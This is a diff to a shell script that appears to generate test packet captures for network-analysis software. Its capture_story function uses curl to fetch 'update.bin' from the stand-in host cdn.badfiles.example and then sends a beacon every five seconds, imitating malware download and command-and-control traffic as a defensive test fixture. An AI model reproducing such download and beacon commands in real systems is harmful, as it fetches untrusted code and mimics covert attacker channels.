@@ -1,5 +1,5 @@
-# The captures, sourced by make.sh: capture_NAME makes NAME.pcap, or what else
-# the function says.
+# The captures, sourced by make.sh: capture_NAME makes NAME.pcap unless its comment
+# names other files.
 
 BROWSER="Mozilla/5.0 (X11; Linux x86_64) TestBrowser/1.0"
 
@@ -51,7 +51,7 @@ frame() {
 	echo "$n"
 }
 
-# fetch is curl without this machine's settings, its output thrown away.
+# fetch runs curl without this machine's settings and discards its output.
 fetch() {
 	on client curl -q -sS --max-time 20 "$@" >/dev/null
 }
@@ -71,7 +71,7 @@ capture_story() {
 	fetch -A "UpdateHelper/1.3" -L http://cdn.badfiles.example/get/update.bin -o "$tmp/story.body"
 	cmp "$tmp/story.body" "$tmp/www/cdn/files/9f2c/update.bin"
 	sleep 1
-	# It reports home every five seconds.
+	# It contacts its operator every five seconds.
 	local i
 	for i in 1 2 3 4 5; do
 		fetch --tlsv1.3 --cacert "$tmp/ca.pem" -A "UpdateHelper/1.3" --http1.1 \
@@ -216,14 +216,31 @@ capture_tls13() {
 	tls_session tls13.pcap --tlsv1.3
 }
 
-# A TLS 1.3 session with what decrypts it.
+# A TLS 1.3 session with its secrets.
 capture_tls_secrets() {
 	record client eth0 tls-secrets.raw tcp port 443
 	on client env SSLKEYLOGFILE="$tmp/keys" curl -q -sS -A "$BROWSER" --http1.1 --tlsv1.3 \
 		--cacert "$tmp/ca.pem" https://shop.partner.example/robots.txt >/dev/null
 	recorded
-	cp "$tmp/out/tls-secrets.raw" "$tmp/plain/tls-secrets.pcapng"
-	editcap --inject-secrets "tls,$tmp/keys" "$tmp/out/tls-secrets.raw" "$tmp/out/tls-secrets.pcapng"
+	with_secrets tls-secrets
+}
+
+# with_secrets NAME adds $tmp/keys to $tmp/out/NAME.raw, which becomes NAME.pcapng.
+with_secrets() {
+	cp "$tmp/out/$1.raw" "$tmp/plain/$1.pcapng"
+	editcap --inject-secrets "tls,$tmp/keys" "$tmp/out/$1.raw" "$tmp/out/$1.pcapng"
+	rm "$tmp/keys"
+}
+
+# exchange METHOD URL STATUS BODY [REQUEST] prints a line of golden/NAME.exchanges.tsv:
+# of the two files the SHA-256.
+exchange() {
+	local file method=$1 url=$2 status=$3 sums=""
+	shift 3
+	for file; do
+		sums+=$'\t'$(sha256sum <"$file" | cut -c 1-64)
+	done
+	printf '%s\t%s\t%s%s\n' "$method" "$url" "$status" "$sums"
 }
 
 capture_two_interfaces() {
